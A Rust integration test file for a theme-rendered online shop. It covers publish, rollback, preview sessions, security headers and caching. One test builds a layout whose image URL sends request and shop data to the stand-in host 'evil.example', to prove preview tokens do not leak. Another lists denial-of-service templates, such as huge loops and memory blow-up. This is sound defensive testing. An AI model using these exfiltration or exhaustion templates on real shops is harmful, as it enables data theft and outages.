//! A shop's pages, rendered with its theme.

use std::time::Duration;

use support::clock::STORE_CACHE;
use support::{Browser, Shown, ThemeShop, ThemeSource, json, upload, zip};

/// What a page takes at most, on a busy machine.
const PATIENCE: Duration = Duration::from_secs(10);

fn browser(shop: &ThemeShop) -> Browser {
    let port = shop.gateway.system().shop_port().unwrap_or_default();
    shop.gateway.browser(&format!("{}.localhost:{port}", shop.store.subdomain))
}

/// The page as anybody sees it, a moment later.
async fn seen(shop: &ThemeShop, path: &str) -> Shown {
    shop.gateway.advance(STORE_CACHE);
    browser(shop).open(path).await
}

/// A browser that has followed the link of a preview, and what it shows.
async fn previewed(shop: &ThemeShop, token: &str) -> (Browser, Shown) {
    shop.gateway.advance(STORE_CACHE);
    let mut browser = browser(shop);
    let shown = browser.open(&format!("/?preview_token={token}")).await;
    assert_eq!(shown.path, "/");
    assert_eq!(browser.cookies["shop_preview"], token);
    (browser, shown)
}

/// A store that has published a theme whose layout is this.
async fn with_layout(layout: &str) -> ThemeShop {
    let shop = ThemeShop::with_upload().await;
    let source = ThemeSource::new(&shop.slug).version("2.0.0");
    let files = source.files().into_iter().map(|(path, content)| {
        let is_layout = path == "layout/theme.liquid";
        (path, if is_layout { layout.as_bytes().to_vec() } else { content })
    });
    let files: Vec<(String, Vec<u8>)> = files.collect();
    upload(&shop.merchant, zip(&files)).await.expect(201);
    shop.post("install", json!({})).await.expect(201);
    shop.publish("Ahoy <b>there</b>").await;
    shop
}

const LAYOUT: &str = "<html><head>{{ 'theme.css' | asset_url | stylesheet_tag }}</head>\
    <body style='color: {{ settings.color }}'><h1>{{ settings.heading }}</h1>{{ content_for_layout }}\
    <a href='{{ routes.collections_url }}'>all</a></body></html>";

#[tokio::test]
async fn a_rendered_page_follows_publish_and_rollback() {
    let shop = with_layout(LAYOUT).await;
    let first = seen(&shop, "/").await.expect(200);
    // What a theme does not escape is written as it is, on the shop's own origin.
    let first = first.shows("<h1>Ahoy <b>there</b></h1>").shows("color: #112233");
    assert_eq!(first.header("content-type"), "text/html; charset=utf-8");
    let policy = first.header("content-security-policy");
    for part in
        ["default-src 'none'", "connect-src 'self'", "worker-src 'none'", "frame-ancestors 'none'"]
    {
        assert!(policy.contains(part), "{policy}");
    }
    // It is everybody's for a moment, and revalidates.
    assert_eq!(first.header("cache-control"), "public, max-age=2, must-revalidate");
    let mut again = browser(&shop);
    let known =
        again.request(reqwest::Method::GET, "/").header("if-none-match", first.header("etag"));
    assert_eq!(again.send(known, "/").await.expect(304).text, "");

    let version = shop.draft("Draft").await;
    let begun = shop.post("preview-session", json!({"draft_version": version})).await.expect(201);
    let token = begun.str("/preview_token");
    let (_, drafted) = previewed(&shop, &token).await;
    let drafted = drafted.expect(200).shows("<h1>Draft</h1>").shows("href='/collections'");
    assert_eq!(drafted.header("cache-control"), "private, no-store");
    assert_eq!(seen(&shop, "/").await.expect(200).text, first.text);
    seen(&shop, "/?preview_token=no").await.expect(400);

    shop.post("publish", json!({"draft_version": version})).await.expect(201);
    seen(&shop, "/").await.expect(200).shows("<h1>Draft</h1>");
    shop.post("rollback", json!({"release": 1})).await.expect(201);
    assert_eq!(seen(&shop, "/").await.expect(200).text, first.text);

    let style = first.text.split("href=\"").nth(1).and_then(|rest| rest.split('"').next()).unwrap();
    let style = browser(&shop).fetch(style).await.expect(200);
    assert_eq!(
        (&*style.text, style.header("access-control-allow-origin")),
        ("body { margin: 0 }", "")
    );
}

/// Whatever a theme writes into the address of a picture, a style or a link, the token is not in it.
#[tokio::test]
async fn a_previewed_page_does_not_contain_its_preview_token() {
    let layout = "<html><head>{{ 'theme.css' | asset_url | stylesheet_tag }}</head><body>\
        <img src='https://evil.example/{{ routes.root_url | url_encode }}\
        {{ 'theme.css' | asset_url | url_encode }}{{ request.path }}{{ request.origin }}\
        {{ request | json }}{{ shop | json }}{{ canonical_url }}{{ page_title }}'>\
        {{ content_for_layout }}<a href='{{ routes.collections_url }}'>all</a></body></html>";
    let shop = with_layout(layout).await;
    // A draft of another version, whose files nobody else sees.
    let mut source = ThemeSource::new(&shop.slug).version("3.0.0");
    source.css = "body { margin: 3px }".into();
    let files = source.files().into_iter().map(|(path, content)| {
        let is_layout = path == "layout/theme.liquid";
        (path, if is_layout { layout.as_bytes().to_vec() } else { content })
    });
    let files: Vec<(String, Vec<u8>)> = files.collect();
    upload(&shop.merchant, zip(&files)).await.expect(201);
    shop.post("upgrade", json!({"version": "3.0.0"})).await.expect(200);
    let version = shop.draft("Secret").await;
    let begun = shop.post("preview-session", json!({"draft_version": version})).await.expect(201);
    let token = begun.str("/preview_token");
    let (mut browser, drafted) = previewed(&shop, &token).await;
    let drafted = drafted.expect(200);
    let secret = token.strip_prefix("thp_").expect("a token");
    for part in [&token, &secret[..20], &secret[secret.len() - 20..], "preview_token"] {
        assert!(!drafted.text.contains(part), "{part}: {}", drafted.text);
    }
    // Its style is there all the same, for this browser.
    let style = drafted.text.split("href=\"").nth(1).and_then(|rest| rest.split('"').next());
    let style = style.expect("a style sheet").to_owned();
    let sheet = browser.fetch(&style).await.expect(200);
    assert_eq!(sheet.text, "body { margin: 3px }");
    seen(&shop, &style).await.expect(404);
    seen(&shop, &format!("/assets/{}", "0".repeat(64))).await.expect(404);
    // What is left, or over, is not asked for again.
    browser.open("/?preview_token=").await.expect(200).lacks("Secret");
    assert!(!browser.cookies.contains_key("shop_preview"));
    browser.cookies.insert("shop_preview".to_owned(), "no".to_owned());
    browser.open("/").await.expect(400);
    assert!(!browser.cookies.contains_key("shop_preview"));
}

#[tokio::test]
async fn a_shop_without_a_theme_sells_all_the_same() {
    let shop = ThemeShop::with_upload().await;
    let product = json!({"title": "A plain cup", "status": "active",
        "variants": [{"price": {"amount": 500, "currency": "INR"}}]});
    let product = shop.owner.post("/v1/products").json(product).await.expect(201);
    let handle = product.str("/handle");
    let mut browser = browser(&shop);
    browser.open("/").await.expect(200).shows("A plain cup");
    browser.open(&format!("/products/{handle}")).await.expect(200).shows("Add to the cart");
    let variant = product.str("/variants/0/id");
    let cart = browser.submit("/cart/add", &[("id", &variant)]).await.expect(200);
    assert_eq!(cart.path, "/cart");
    cart.shows("A plain cup").shows("Check out");
    browser.open("/nowhere").await.expect(404).shows("This page does not exist");
    browser.at("no-such-store.localhost").open("/").await.expect(404);
}

#[tokio::test]
async fn a_hostile_template_is_stopped_with_a_finding() {
    for (layout, code) in [
        ("{% for i in (1..1000000000) %}{% endfor %}", "too_many_steps"),
        (
            "{% assign s = 'xxxxxxxx' %}{% for i in (1..99) %}{% assign s = s | append: s %}{% endfor %}",
            "memory_exceeded",
        ),
        (
            "{% section 'hero' %}{% for i in (1..200000) %}0123456789012345678901234567890123456789{% endfor %}",
            "output_too_large",
        ),
        ("{% if %}", "syntax"),
    ] {
        let shop = with_layout(layout).await;
        let answered = tokio::time::timeout(PATIENCE, seen(&shop, "/")).await;
        // Shoppers can buy all the same.
        answered.expect("the page ends in time").expect(200).shows("Products").lacks(code);
        let version = shop.draft("Draft").await;
        let begun =
            shop.post("preview-session", json!({"draft_version": version})).await.expect(201);
        let (_, shown) = previewed(&shop, &begun.str("/preview_token")).await;
        shown.expect(422).shows("layout/theme.liquid");
    }
}
